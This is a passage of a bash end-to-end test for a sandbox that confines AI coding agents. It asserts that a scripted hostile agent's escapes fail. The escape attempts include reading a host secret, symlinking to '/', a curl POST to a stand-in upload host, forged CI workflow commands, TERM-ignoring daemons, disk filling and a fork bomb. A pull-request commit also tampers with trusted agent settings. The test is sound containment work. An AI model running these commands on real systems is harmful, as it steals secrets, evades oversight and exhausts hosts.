#!/usr/bin/env bash
# `agentic-job run` end to end, inside a booted test host (tests/host/run), after the project's own
# `sandbox setup` (egress proxy on, the fake internet behind it). A real git repository (base branch and a
# pull-request commit that changes a trusted path), a scripted hostile agent (a test program, no model)
# that does its job and tries to escape: every attempt fails or is refused by name, exactly the legitimate
# outputs are exported, nothing of the sandbox user survives. Then the exit statuses: usage, a failing
# agent, a timeout, a cancellation mid-agent, a survivor of the shutdown (status 2), and a second run that
# works after them.
#
# The host is thrown away after the run: this suite installs the project and changes the host for good.
#
# usage: bash tests/host/run --release trixie|bookworm tests/e2e/run.sh
set -u
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=tests/integration/lib.sh
. "$here/../integration/lib.sh"

require_test_host tests/e2e/run.sh
build=${AJH_BUILD:-/build}
CLIENT=/usr/local/bin/agentic-job
RUNNER=runner
SANDBOX=runner-sandbox
REPO=/srv/ajt-repo
AGENT=/opt/ajt/agent.sh
work=$(mktemp -d /tmp/ajt-run.XXXXXX)
chmod 0755 "$work"
on_exit "rm -rf $work"

echo "# ${AJH_RELEASE:-unknown release}: $(systemctl --version | head -n1)"
ninja -C "$build" install >"$work/install.log" 2>&1 || { cat "$work/install.log"; echo "Bail out! install"; exit 1; }
useradd --create-home --shell /bin/bash "$RUNNER"
printf '%s ALL=(ALL) NOPASSWD: ALL\n' "$RUNNER" >/etc/sudoers.d/runner
chmod 0440 /etc/sudoers.d/runner
RUNNER_HOME=$(getent passwd "$RUNNER" | cut -d: -f6)
rm -f /etc/resolv.conf
printf 'nameserver 203.0.113.53\noptions timeout:1 attempts:1\n' >/etc/resolv.conf
cat >"$work/config.toml" <<EOT
[sandbox]
user = "$SANDBOX"
runner-user = "$RUNNER"
groups = []

[sandbox.check]
control-url = "https://www.fake.test/"
fetch-repo = "https://www.fake.test/git/fixture.git"

[egress]
proxy = true

[run]
env = ["AJT_NAMED"]
max-file-bytes = 1048576
EOT
chmod 0644 "$work/config.toml"
if ! "$CLIENT" sandbox setup --config "$work/config.toml" </dev/null >"$work/setup.out" 2>&1; then
        sed 's/^/# setup: /' "$work/setup.out"
        echo "Bail out! setup failed"
        exit 1
fi
pass "sandbox setup"
SANDBOX_HOME=$(getent passwd "$SANDBOX" | cut -d: -f6)
SANDBOX_UID=$(id -u "$SANDBOX")

# What the agent must not reach: a secret in the runner's home and the runner's own checkout.
RUNNER_TEMP=$RUNNER_HOME/temp
install -d -m 0700 -o "$RUNNER" -g "$RUNNER" "$RUNNER_TEMP" "$RUNNER_HOME/checkout"
echo "runner-secret-$RANDOM$RANDOM" >"$RUNNER_HOME/secret"
echo original >"$RUNNER_HOME/checkout/file"
chown -R "$RUNNER:$RUNNER" "$RUNNER_HOME/secret" "$RUNNER_HOME/checkout"

# ---------------------------------------------------------------------------------------------------------
# The repository: main with trusted startup configuration; a pull-request commit that changes it.
git_q() { git -c init.defaultBranch=main -c user.name=t -c user.email=t@t.test "$@" >/dev/null 2>&1; }
install -d -m 0755 "$REPO"
git_q -C "$REPO" init
printf 'base settings\n' >/dev/null
mkdir -p "$REPO/.claude" "$REPO/src"
echo '{"trusted":"base"}' >"$REPO/.claude/settings.json"
echo "hello" >"$REPO/README"
for i in $(seq 1 20); do echo "line $i" >"$REPO/src/f$i.txt"; done
git_q -C "$REPO" add -A
git_q -C "$REPO" commit -m base
BASE_COMMIT=$(git -C "$REPO" rev-parse HEAD)
git_q -C "$REPO" checkout -b pr
echo '{"trusted":"pull-request","hooks":"evil"}' >"$REPO/.claude/settings.json"
mkdir -p "$REPO/.codex"
echo 'evil = true' >"$REPO/.codex/config.toml"
echo "changed by the pr" >>"$REPO/README"
git_q -C "$REPO" add -A
git_q -C "$REPO" commit -m pr
PR_COMMIT=$(git -C "$REPO" rev-parse HEAD)
git_q -C "$REPO" checkout main
chmod -R a+rX "$REPO"
expect_eq "the test repository has two commits" 2 "$(git -C "$REPO" rev-list --all | wc -l)"

# ---------------------------------------------------------------------------------------------------------
# The hostile agent: does its job, then tries everything; each attempt's outcome is written to
# out/attempts.txt (one of the legitimate outputs), so the test reads what happened inside.
install -d -m 0755 /opt/ajt
cat >"$AGENT" <<'EOT'
#!/bin/bash
mode=${1:-hostile}
exec 2>&1
out=out
mkdir -p "$out"
note() { echo "$*" >>"$out/attempts.txt"; }
case $mode in
sleep)
        echo "agent: sleeping"
        sleep 600
        exit 0
        ;;
fail)
        echo "agent: failing"
        exit 7
        ;;
esac
# The job.
echo "reviewed" >>README
echo "# review of $(git rev-parse HEAD 2>/dev/null || echo unknown)" >"$out/review.md"
cp .claude/settings.json "$out/trusted-seen.json"
cat "$AGENTIC_JOB_TASK" >"$out/task-seen.txt"
env | sort >"$out/env.txt"
pwd >"$out/pwd.txt"
# Workflow commands in its output.
echo "::warning::pwned by the agent"
echo "  ::add-mask::x"
echo "text ##[error]forged"
# Escapes.
if cat "$RUNNER_SECRET_PATH" >/dev/null 2>&1; then note "read-runner-secret: WORKED"; else note "read-runner-secret: refused"; fi
if echo pwned >>"$RUNNER_CHECKOUT/file" 2>/dev/null; then note "write-runner-checkout: WORKED"; else note "write-runner-checkout: refused"; fi
ln -s "$RUNNER_SECRET_PATH" "$out/link.txt"
ln -s / "$out/escape"
mkfifo "$out/fifo"
mkdir -p "$out/dir"
truncate -s 10G "$out/sparse"
# Inside the confinement the run's directory itself is read-only, and a hard link to a file outside the
# workspace (its own, in the run's home) cannot be made across the binds (EXDEV). So that the export's
# refusal of a file with two names is exercised too, the link it does make is one to the workspace's README.
if echo "outside" >"$HOME/../outside.txt" 2>/dev/null; then note "write-run-dir: WORKED"; else note "write-run-dir: refused"; fi
echo "outside" >"$HOME/outside.txt"
if ln "$HOME/outside.txt" "$out/hard" 2>/dev/null; then note "hard-link-outside: WORKED"; else note "hard-link-outside: refused"; fi
[ -e "$out/hard" ] || ln README "$out/hard" 2>/dev/null || note "hard-link: could not make"
# A POST the policy refuses.
if curl -s -o /dev/null -w '%{http_code}' -m 5 -X POST -d x https://upload.fake.test/p | grep -q 403; then
        note "post: 403"
else
        note "post: not 403"
fi
# A daemon that ignores TERM, in a session of its own, and a process that keeps forking.
setsid bash -c 'trap "" TERM HUP; exec -a ajt-daemon sleep 100000' </dev/null >/dev/null 2>&1 &
bash -c 'while :; do (sleep 1000 &); sleep 0.01; done' </dev/null >/dev/null 2>&1 &
# One that holds the agent's output open after it exits.
sleep 100000 &
# Its disk filled, last (outside the workspace, in the run's home).
head -c 1G /dev/zero >"$HOME/fill" 2>/dev/null
echo "agent: disk full: $(df -k --output=avail "$HOME" | tail -n 1 | tr -d ' ') KiB left"
echo "agent: done"
# A fork bomb at exit, bounded by its own process limit (the test host's, not the machine's).
bash -c 'ulimit -u 600; b() { b | b & }; b' </dev/null >/dev/null 2>&1 &
exit 0
EOT
chmod 0755 "$AGENT"
echo "Review the change." >"$work/task.md"
chmod 0644 "$work/task.md"

# run_as_runner OUT ARGS...: agentic-job run as the runner, with a job's environment (its command files
# among it, which must not reach the agent); $work/run.out, $work/run.err, $status.
run_as_runner() {
        runuser -u "$RUNNER" -- env -i PATH=/usr/bin:/bin HOME="$RUNNER_HOME" RUNNER_TEMP="$RUNNER_TEMP" \
                GITHUB_ENV="$RUNNER_TEMP/env" GITHUB_OUTPUT="$RUNNER_TEMP/output" \
                GITHUB_STEP_SUMMARY="$RUNNER_TEMP/step-summary" AJT_NAMED=named-value AJT_OTHER=other-value \
                "$CLIENT" run "$@" </dev/null >"$work/run.out" 2>"$work/run.err"
        status=$?
}
# show: what the last run said, and the journal's last minute (the helper's audit, run0's and logind's
# words), where a run ended otherwise than expected.
show() {
        sed 's/^/# | /' "$work/run.out" "$work/run.err"
        journalctl -q --no-pager --since "-60s" -o short-monotonic 2>&1 | tail -n 80 | sed 's/^/# journal: /'
}
sandbox_processes() { pgrep -u "$SANDBOX_UID" | wc -l; }
# client_of PID: the agentic-job that runuser PID started (its child, by parent pid): what a cancel signals.
client_of() {
        local c
        for _ in $(seq 1 100); do
                c=$(pgrep -P "$1" -x agentic-job) && { echo "$c"; return; }
                sleep 0.05
        done
        echo "$1"
}
run_dirs() { find "$SANDBOX_HOME" -maxdepth 1 -name 'agentic-job-run-*' | wc -l; }
# The agent needs to know where the runner's things are; the paths are not secret.
AGENT_ENV="RUNNER_SECRET_PATH=$RUNNER_HOME/secret RUNNER_CHECKOUT=$RUNNER_HOME/checkout"

# ---------------------------------------------------------------------------------------------------------
# The sandbox user's home on a filesystem of its own, 64 MiB, as an operator who does not want it to fill
# the runner's disk gives it: the agent fills it, and the export and the disposal must still work.
mount -t tmpfs -o "size=64m,mode=0700,uid=$SANDBOX_UID,gid=$(id -g "$SANDBOX")" ajt-sandbox-home "$SANDBOX_HOME"
on_exit "umount $SANDBOX_HOME"
echo "# the hostile run"
OUT=$RUNNER_HOME/run1
OUTPUTS=(--output out/review.md --output out/attempts.txt --output out/trusted-seen.json
         --output out/task-seen.txt --output out/env.txt --output out/pwd.txt
         --output out/link.txt --output out/escape/etc/passwd --output out/fifo --output out/dir
         --output out/sparse --output out/hard --output out/never-written)
# A record of a passed check stands (seed 003): run removes it before anything enters the sandbox user.
RECORD=$RUNNER_TEMP/agentic-job-sandbox-checked
printf 'agentic-job-sandbox-checked 1\n' >"$RECORD"
chown "$RUNNER:" "$RECORD"
chmod 0600 "$RECORD"
# shellcheck disable=SC2086
run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$OUT" \
        "${OUTPUTS[@]}" --patch -- /usr/bin/env $AGENT_ENV "$AGENT"
sed 's/^/# | /' "$work/run.out" "$work/run.err"
expect_absent "the check's record was removed by the run" "$RECORD"
expect_eq "the hostile run: exit 3 (the sparse file hit the per-file limit)" 3 "$status"
expect_contains "nothing between clone and agent: one enter, the clone in a PID namespace of its own" \
        "clone: ok in" "$(grep -F "made in a PID namespace of its own, in the agent's enter" "$work/run.err")"
expect_eq "nothing of the sandbox user survived" 0 "$(sandbox_processes)"
expect_eq "the run's directory was disposed of" 0 "$(run_dirs)"
W=$OUT/workspace/out
expect_contains "the review is exported" "# review of $PR_COMMIT" "$(cat "$W/review.md" 2>&1)"
expect_eq "the trusted path came from the base commit" '{"trusted":"base"}' "$(cat "$W/trusted-seen.json" 2>&1)"
expect_eq "the task reached the agent" "Review the change." "$(cat "$W/task-seen.txt" 2>&1)"
expect_eq "the agent ran in the clone" "$SANDBOX_HOME" "$(sed 's,/agentic-job-run-[0-9a-f]*/workspace$,,' "$W/pwd.txt")"
expect_contains "the runner's secret was not read" "read-runner-secret: refused" "$(cat "$W/attempts.txt")"
expect_contains "the runner's checkout was not written" "write-runner-checkout: refused" "$(cat "$W/attempts.txt")"
expect_eq "the runner's checkout is unchanged" original "$(cat "$RUNNER_HOME/checkout/file")"
expect_contains "the POST met the proxy's 403" "post: 403" "$(cat "$W/attempts.txt")"
expect_contains "the run's directory outside its binds was not written" "write-run-dir: refused" "$(cat "$W/attempts.txt")"
expect_contains "no hard link to a file outside the workspace (EXDEV across the binds)" "hard-link-outside: refused" \
        "$(cat "$W/attempts.txt")"
expect_lacks "the hard link was made" "hard-link: could not make" "$(cat "$W/attempts.txt")"
expect_contains "summary.json: the confinement" '"confine": "bubblewrap"' "$(cat "$OUT/summary.json")"
env_seen=$(cat "$W/env.txt")
expect_contains "a named value reached the agent" "AJT_NAMED=named-value" "$env_seen"
expect_lacks "an unnamed value did not" "AJT_OTHER" "$env_seen"
expect_lacks "GITHUB_ENV did not" "GITHUB_ENV" "$env_seen"
expect_lacks "GITHUB_OUTPUT did not" "GITHUB_OUTPUT" "$env_seen"
expect_lacks "GITHUB_STEP_SUMMARY did not" "GITHUB_STEP_SUMMARY" "$env_seen"
expect_lacks "RUNNER_TEMP did not" "RUNNER_TEMP" "$env_seen"
expect_contains "GITHUB_WORKSPACE is the clone" "GITHUB_WORKSPACE=$SANDBOX_HOME/agentic-job-run-" "$env_seen"
for f in link.txt escape fifo dir sparse hard never-written; do
        expect_absent "out/$f was not exported" "$W/$f"
done
expect_eq "exactly the legitimate outputs were exported" \
        "attempts.txt env.txt pwd.txt review.md task-seen.txt trusted-seen.json" \
        "$(find "$OUT/workspace" -mindepth 1 \( -type d -printf '%P/\n' -o -printf '%P\n' \) | grep -v '^out/$' |
                sed 's,^out/,,' | sort | tr '\n' ' ' | sed 's/ $//')"
md=$(cat "$OUT/summary.md")
expect_contains "summary: the link refused" '| ` out/link.txt ` | refused |' "$md"
expect_contains "summary: the link component refused" '| ` out/escape/etc/passwd ` | refused |' "$md"
expect_contains "summary: the FIFO refused" '| ` out/fifo ` | refused |' "$md"
expect_contains "summary: the directory refused" '| ` out/dir ` | refused |' "$md"
expect_contains "summary: the sparse file refused" '| ` out/sparse ` | refused |' "$md"
expect_contains "summary: the hard link refused" '| ` out/hard ` | refused |' "$md"
expect_contains "summary: the missing output named" '| ` out/never-written ` | refused | 0 | ` missing ` |' "$md"
expect_contains "summary: the POST denied is listed" '| ` POST ` | ` upload.fake.test ` |' "$md"
expect_contains "summary.json: the result" '"result": "limit-hit"' "$(cat "$OUT/summary.json")"
expect_contains "summary.json: the commit" "\"commit\": \"$PR_COMMIT\"" "$(cat "$OUT/summary.json")"
expect_contains "summary.json: the base commit" "\"base-commit\": \"$BASE_COMMIT\"" "$(cat "$OUT/summary.json")"
expect_contains "the step summary got the Markdown" "## agentic-job run: limit-hit (exit 3)" \
        "$(cat "$RUNNER_TEMP/step-summary" 2>&1)"
patch=$(cat "$OUT/patch.diff" 2>&1)
expect_contains "the patch holds the agent's change" "+reviewed" "$patch"
expect_lacks "the patch leaves the trusted paths out" ".claude/settings.json" "$patch"
expect_contains "the egress log of the run is saved" "upload.fake.test" "$(cat "$OUT/egress.jsonl" 2>&1)"
agent_out=$(cat "$work/run.out")
expect_contains "a workflow command is defused" ": :warning::pwned by the agent" "$agent_out"
expect_contains "an indented one too" "  : :add-mask::x" "$agent_out"
expect_contains "##[ anywhere too" "text ## [error]forged" "$agent_out"
expect_lacks "no workflow command passes" "
::warning" "
$agent_out"
expect_eq "the output directory is the runner's, 0700" "700 $RUNNER" "$(stat -c '%a %U' "$OUT")"
expect_contains "the agent filled its disk" "agent: disk full: 0 KiB left" "$agent_out"
expect_eq "... and the disposal emptied it" 0 "$(find "$SANDBOX_HOME" -mindepth 1 -maxdepth 1 | wc -l)"
umount "$SANDBOX_HOME"
for phase in prepare clone agent shutdown export egress-log dispose; do
        expect_contains "phase $phase printed" "agentic-job run: $phase: started" "$(cat "$work/run.err")"
done

# ---------------------------------------------------------------------------------------------------------
echo "# refusals before anything is made (status 2)"
run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$OUT" --patch -- /bin/true
expect_eq "an output directory that exists: status 2" 2 "$status"
expect_contains "... named" "--out $OUT: exists already" "$(cat "$work/run.err")"
run_as_runner --repo "$REPO" --commit "${PR_COMMIT:0:12}" --base main --task "$work/task.md" --out "$RUNNER_HOME/x" --patch -- /bin/true
expect_eq "a short commit: status 2" 2 "$status"
expect_absent "... and no output directory" "$RUNNER_HOME/x"
run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/x" --output ../etc -- /bin/true
expect_eq "an output through ..: status 2" 2 "$status"
"$CLIENT" run --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out /tmp/ajt-root --patch -- /bin/true \
        >/dev/null 2>"$work/root.err"
expect_eq "as root: status 2" 2 "$?"
expect_absent "... and nothing made" /tmp/ajt-root

# ---------------------------------------------------------------------------------------------------------
echo "# a failing agent, a timeout, a cancellation"
run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/run-fail" \
        --patch -- "$AGENT" fail
expect_eq "a failing agent: status 1" 1 "$status"
expect_contains "... its status in the summary" "exit status 7" "$(cat "$RUNNER_HOME/run-fail/summary.md")"
expect_eq "... nothing survived" 0 "$(sandbox_processes)"

# An agent whose program is not installed never started (status 4, safe to retry), in the clone's enter
# and in an enter of its own (after a setup command), and the summary names the program. An agent that
# ends as a missing program would (127, "command not found") failed: its start was said before it ran,
# and what it prints cannot take that back.
run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/run-missing" \
        --patch -- ajt-no-such-agent --flag
expect_eq "an agent program not installed: status 4" 4 "$status"
[ "$status" = 4 ] || show
expect_contains "... the summary says it never started" "not-started" "$(cat "$RUNNER_HOME/run-missing/summary.md")"
expect_contains "... and names the program" "the agent's program ajt-no-such-agent is not installed: not found in the agent's PATH" \
        "$(cat "$RUNNER_HOME/run-missing/summary.md")"
expect_contains "... standard error too" "ajt-no-such-agent is not installed" "$(cat "$work/run.err")"
expect_eq "... nothing survived" 0 "$(sandbox_processes)"
run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/run-missing2" \
        --setup true --patch -- /opt/ajt/no-such-agent
expect_eq "an agent path that does not exist, after a setup command: status 4" 4 "$status"
expect_contains "... named" "the agent's program /opt/ajt/no-such-agent is not installed: no such executable file" \
        "$(cat "$RUNNER_HOME/run-missing2/summary.md")"
run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/run-127" \
        --patch -- /bin/sh -c 'printf "agentic-job: the agent starts\n"; echo "sh: 1: claude: not found" >&2; exit 127'
expect_eq "an agent that ends as a missing program would: status 1" 1 "$status"
expect_contains "... its status in the summary" "exit status 127" "$(cat "$RUNNER_HOME/run-127/summary.md")"
expect_eq "... the start line it printed itself passes as its output" "1 agentic-job: the agent starts" \
        "$(grep -c '^agentic-job: the agent starts$' "$work/run.out") $(grep '^agentic-job: the agent' "$work/run.out")"

run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/run-slow" \
        --timeout 3 --patch -- "$AGENT" sleep
expect_eq "a timeout: status 124" 124 "$status"
[ "$status" = 124 ] || show
expect_eq "... nothing survived" 0 "$(sandbox_processes)"
expect_eq "... disposed of" 0 "$(run_dirs)"

# The runner's own disk full (its output directory on a 128 KiB filesystem, as when an agent filled a disk
# it shares): the output that does not fit is refused by name, nothing of it is left, and the run failed.
install -d -m 0700 -o "$RUNNER" -g "$RUNNER" "$RUNNER_HOME/small"
mount -t tmpfs -o "size=128k,mode=0700,uid=$(id -u "$RUNNER"),gid=$(id -g "$RUNNER")" ajt-small "$RUNNER_HOME/small"
on_exit "umount $RUNNER_HOME/small"
run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/small/out" \
        --output out/big -- sh -c 'mkdir -p out && head -c 300000 /dev/zero >out/big'
expect_eq "the runner's disk full: status 2" 2 "$status"
expect_contains "... the output refused for it" '| ` out/big ` | refused | 0 |' "$(cat "$RUNNER_HOME/small/out/summary.md" 2>&1)"
expect_contains "... by its error" "No space left on device" "$(cat "$RUNNER_HOME/small/out/summary.md" 2>&1)"
expect_absent "... nothing of it left" "$RUNNER_HOME/small/out/workspace/out/big"
expect_eq "... nothing survived" 0 "$(sandbox_processes)"
expect_eq "... disposed of" 0 "$(run_dirs)"
umount "$RUNNER_HOME/small"

# SIGTERM, SIGINT and SIGHUP to run mid-agent: everything reaped, nothing exported, disposed of, status 1.
# (A background job of this script has SIGINT ignored; run blocks the three and reads them from a
# signalfd, and a blocked signal is queued whatever its disposition, which this shows too.)
# run_until LINE NAME ARGS...: run as the runner in the background ($runner_pid), its output in
# $work/NAME.out and .err, until its standard output shows LINE (at most 20 s).
run_until() {
        local line=$1 name=$2
        shift 2
        runuser -u "$RUNNER" -- env -i PATH=/usr/bin:/bin HOME="$RUNNER_HOME" RUNNER_TEMP="$RUNNER_TEMP" \
                "$CLIENT" run "$@" </dev/null >"$work/$name.out" 2>"$work/$name.err" &
        runner_pid=$!
        for _ in $(seq 1 200); do
                grep -q "$line" "$work/$name.out" 2>/dev/null && break
                sleep 0.1
        done
}
for sig in TERM INT HUP; do
        run_until "agent: sleeping" cancel --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" \
                --out "$RUNNER_HOME/run-cancel-$sig" --output out/attempts.txt --patch -- "$AGENT" sleep
        expect_contains "SIG$sig: the agent was running before it" "agent: sleeping" "$(cat "$work/cancel.out")"
        kill -"$sig" "$(client_of "$runner_pid")"
        wait "$runner_pid"
        status=$?
        expect_eq "SIG$sig mid-agent: status 1" 1 "$status"
        [ "$status" = 1 ] || sed 's/^/# | /' "$work/cancel.err"
        expect_eq "... nothing survived" 0 "$(sandbox_processes)"
        expect_eq "... disposed of" 0 "$(run_dirs)"
        expect_absent "... nothing exported" "$RUNNER_HOME/run-cancel-$sig/workspace"
        expect_absent "... no patch" "$RUNNER_HOME/run-cancel-$sig/patch.diff"
        expect_contains "... the summary says so" '"result": "cancelled"' "$(cat "$RUNNER_HOME/run-cancel-$sig/summary.json")"
        expect_contains "... and names the signal" "cancelled by signal $(kill -l "$sig")" \
                "$(cat "$RUNNER_HOME/run-cancel-$sig/summary.json")"
done

# SIGKILL: run gets no word of it and ends nothing. The helper that entered the agent watches its caller
# (a pidfd of the process that started sudo) and ends every process of the sandbox user as that caller
# goes; what run would have disposed of stays for the next run's or a kill-user's turn.
run_until "agent: sleeping" cancel --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" \
        --out "$RUNNER_HOME/run-cancel-KILL" --output out/attempts.txt --patch -- "$AGENT" sleep
expect_contains "SIGKILL: the agent was running before it (the control)" "agent: sleeping" "$(cat "$work/cancel.out")"
expect_eq "SIGKILL: ... its processes ran" 1 "$([ "$(sandbox_processes)" -ge 1 ] && echo 1 || echo 0)"
killed_at=$(date +%s%N)
kill -KILL "$(client_of "$runner_pid")"
wait "$runner_pid"
left=x
for _ in $(seq 1 200); do
        left=$(sandbox_processes)
        [ "$left" = 0 ] && break
        sleep 0.05
done
echo "# SIGKILL: nothing of the sandbox user left $((($(date +%s%N) - killed_at) / 1000000)) ms after the kill"
expect_eq "SIGKILL mid-agent: the helper ended every process of the sandbox user, with no kill-user called" 0 "$left"
[ "$left" = 0 ] || ps -o pid,user,stat,args -u "$SANDBOX_UID" | sed 's/^/# | /'
expect_contains "... and its audit record says why" "ended before the command" \
        "$(journalctl -q -o cat SYSLOG_IDENTIFIER=agentic-job-helper 2>&1 | tail -n 200)"
# What run left: its directory, the token in it, where a later step of the sandbox user's could read it.
# The job's last step, sandbox end, removes it as the sandbox user.
left_dir=$(find "$SANDBOX_HOME" -maxdepth 1 -name 'agentic-job-run-*' | head -n 1)
expect_eq "SIGKILL: run left its directory (the control)" 1 "$([ -d "$left_dir/workspace" ] && echo 1 || echo 0)"
out=$(runuser -u "$RUNNER" -- env -i PATH=/usr/bin:/bin HOME="$RUNNER_HOME" RUNNER_TEMP="$RUNNER_TEMP" \
        "$CLIENT" sandbox end </dev/null 2>&1)
expect_eq "sandbox end after the SIGKILL: status 0" 0 "$?"
expect_contains "sandbox end: it removed the run's directory" "removed the directories of 1 runs" "$out"
expect_eq "sandbox end: no run's directory is left in the sandbox home" "" \
        "$(find "$SANDBOX_HOME" -maxdepth 1 -name 'agentic-job-run-*')"

# A survivor: a root service of the runner's that keeps processes of the sandbox user alive (what no
# kill-user can outlast, since root starts them again) makes the shutdown fail. Status 2, nothing exported,
# the disposal refused while they live, the summary says so. Started once the agent runs, so that the run's
# first kill-user and its clone go ahead as they would.
echo "# a survivor of the shutdown"
cc -O2 -Wall -Werror -o "$work/ajt-hostile" "$here/../integration/hostile.c" 2>"$work/cc.err" || sed 's/^/# cc: /' "$work/cc.err"
# stop_respawner PID: ends the respawner by its pid, if that pid is still the respawner.
stop_respawner() {
        grep -qa ajt-hostile "/proc/$1/cmdline" 2>/dev/null && kill -KILL "$1"
        for _ in $(seq 1 100); do
                [ -e "/proc/$1" ] || return 0
                sleep 0.05
        done
}
run_until "agent: waiting" survivor --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" \
        --out "$RUNNER_HOME/run-survivor" --output out/kept.txt --patch -- \
        sh -c 'mkdir -p out && echo kept >out/kept.txt && echo "agent: waiting" && sleep 5'
expect_contains "the agent was running before the respawner started" "agent: waiting" "$(cat "$work/survivor.out")"
respawner=$("$work/ajt-hostile" respawner "$SANDBOX_UID" "$(id -g "$SANDBOX")" 20 2>&1)
expect_eq "the respawner keeps 20 processes of the sandbox user" "respawner" "${respawner% *}"
respawner=${respawner#respawner }
on_exit "stop_respawner $respawner"
wait "$runner_pid"
status=$?
SUMMARY=$RUNNER_HOME/run-survivor/summary.json
expect_eq "a survivor of the shutdown: status 2" 2 "$status"
[ "$status" = 2 ] || sed 's/^/# | /' "$work/survivor.err"
shutdown=$(python3 -c 'import json, sys; print(" ".join(p["outcome"] + ": " + p["detail"] for p in json.load(open(sys.argv[1]))["phases"] if p["name"] == "shutdown"))' "$SUMMARY" 2>&1)
echo "# shutdown: $shutdown"
expect_contains "... the shutdown failed" "failed: " "$shutdown"
expect_contains "... naming what survived" "survive" "$shutdown"
expect_contains "... the result" '"result": "cleanup-failed"' "$(cat "$SUMMARY")"
expect_absent "... nothing exported" "$RUNNER_HOME/run-survivor/workspace"
expect_absent "... no patch" "$RUNNER_HOME/run-survivor/patch.diff"
expect_contains "... the disposal refused while they live" "dispose: FAILED" "$(cat "$work/survivor.err")"
expect_eq "... so the run's directory is still there" 1 "$(run_dirs)"
stop_respawner "$respawner"
kill_uid "$SANDBOX_UID"
expect_eq "... the respawner ended, nothing of the sandbox user is left" 0 "$(sandbox_processes)"
find "$SANDBOX_HOME" -maxdepth 1 -name 'agentic-job-run-*' -exec rm -rf --one-file-system {} +
expect_eq "... and the test removed the directory" 0 "$(run_dirs)"

# SIGTERM mid-clone: a repository large enough that the clone is still running when its first progress
# line has come (200 MB that do not compress).
echo "# a cancellation mid-clone"
BIG=/srv/ajt-big
install -d -m 0755 "$BIG"
git_q -C "$BIG" init
head -c 200M /dev/urandom >"$BIG/blob"
git_q -C "$BIG" add -A
git_q -C "$BIG" commit -m big
BIG_COMMIT=$(git -C "$BIG" rev-parse HEAD)
chmod -R a+rX "$BIG"
runuser -u "$RUNNER" -- env -i PATH=/usr/bin:/bin HOME="$RUNNER_HOME" RUNNER_TEMP="$RUNNER_TEMP" \
        "$CLIENT" run --repo "$BIG" --commit "$BIG_COMMIT" --base main --task "$work/task.md" \
        --out "$RUNNER_HOME/run-cancel-clone" --patch -- /bin/true \
        </dev/null >"$work/cancel-clone.out" 2>"$work/cancel-clone.err" &
runner_pid=$!
for _ in $(seq 1 300); do
        grep -q "clone: [0-9]*/[0-9]* objects" "$work/cancel-clone.err" 2>/dev/null && break
        sleep 0.05
done
expect_contains "the clone was under way before the cancel" "clone: started" "$(cat "$work/cancel-clone.err")"
kill -TERM "$(client_of "$runner_pid")"
wait "$runner_pid"
status=$?
expect_eq "cancelled mid-clone: status 1" 1 "$status"
expect_contains "... the clone was cancelled" "clone: FAILED in" "$(cat "$work/cancel-clone.err")"
expect_contains "... the summary says so" '"detail": "cancelled"' "$(cat "$RUNNER_HOME/run-cancel-clone/summary.json")"
expect_lacks "... the agent never started" "agent: started" "$(cat "$work/cancel-clone.err")"
[ "$status" = 1 ] || sed 's/^/# | /' "$work/cancel-clone.err"
expect_eq "... nothing survived" 0 "$(sandbox_processes)"
expect_eq "... the partial clone disposed of" 0 "$(run_dirs)"
# On a terminal the clone's progress is one line rewritten in place ("\r"), ended with a newline.
echo "# the clone's progress on a terminal"
TTY_LOG=$RUNNER_HOME/tty.log
runuser -u "$RUNNER" -- script -qfec "env -i PATH=/usr/bin:/bin HOME=$RUNNER_HOME RUNNER_TEMP=$RUNNER_TEMP $CLIENT run --repo $BIG --commit $BIG_COMMIT --base main --task $work/task.md --out $RUNNER_HOME/run-tty --patch -- /bin/true" \
        "$TTY_LOG" </dev/null >/dev/null 2>&1
status=$?
expect_eq "a run on a terminal: status 0" 0 "$status"
[ "$status" = 0 ] || sed 's/^/# | /' "$TTY_LOG"
expect_eq "the progress was rewritten in place, more than once" yes \
        "$([ "$(grep -a -o $'\r[^\r]*clone: [0-9]*/[0-9]* objects' "$TTY_LOG" | wc -l)" -ge 2 ] && echo yes)"
expect_eq "... and ended with a newline before the phase's end" yes \
        "$(python3 -c 'import re, sys; d = open(sys.argv[1], "rb").read(); print("yes" if re.search(rb"objects, [0-9]+ bytes\r*\n[^\r\n]*clone: ok in", d) else "no")' "$TTY_LOG")"
expect_eq "... nothing survived" 0 "$(sandbox_processes)"
rm -rf "$BIG" "$RUNNER_HOME/run-tty" "$TTY_LOG"

# ---------------------------------------------------------------------------------------------------------
# The export and the disposal against what the agent leaves (issue 31, items 2, 5, 7): a FIFO where
# libgit2 reads, a cancellation and a kill while the exporter runs, a directory chain deeper than the
# removal's table, and a disposal that fails: the token goes first.
# eh_start NAME STDIN ARGS...: run as the runner in the background ($eh_pid), $work/NAME.out and .err.
eh_start() {
        local name=$1 input=$2
        shift 2
        runuser -u "$RUNNER" -- env -i PATH=/usr/bin:/bin HOME="$RUNNER_HOME" RUNNER_TEMP="$RUNNER_TEMP" \
                "$CLIENT" run "$@" <"$input" >"$work/$name.out" 2>"$work/$name.err" &
        eh_pid=$!
}
# eh_wait SECONDS: $status of $eh_pid once it ended, or "hung" after SECONDS (then it is killed, by pid).
eh_wait() {
        local i
        for i in $(seq 1 $(($1 * 10))); do
                if ! kill -0 "$eh_pid" 2>/dev/null; then
                        wait "$eh_pid"
                        status=$?
                        return
                fi
                sleep 0.1
        done
        status=hung
        kill -KILL "$(client_of "$eh_pid")" 2>/dev/null
